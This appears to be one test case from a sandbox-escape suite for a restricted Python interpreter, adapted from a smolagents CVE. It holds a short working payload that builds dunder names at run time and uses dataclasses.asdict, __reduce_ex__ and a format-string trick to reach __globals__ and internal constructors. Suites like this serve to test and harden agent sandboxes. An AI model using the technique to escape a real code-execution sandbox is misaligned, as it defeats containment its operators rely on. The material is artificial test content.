# technique: dataclasses.asdict as a one-level getattr with run-time dunder names on the model's own instances (__reduce_ex__ hands out copyreg functions), then the format road for a second level
# source: smolagents CVE-2025-5120 (getattr leakage) adapted; RestrictedPython PR #282
# category: dunder
# expect: ok
import dataclasses
d = '_' * 2
C = dataclasses.make_dataclass('C', [(d + 'reduce_ex' + d, object), (d + 'class' + d, object)], init=False)
got = dataclasses.asdict(C())
reduce_ex = got[d + 'reduce_ex' + d]
newobj = reduce_ex(2)[0]
print('got', newobj)
print(('{0.' + d + 'globals' + d + '}').format(newobj)[:120])   # a string, not a dict
x = newobj(type(context))
print(type(x))
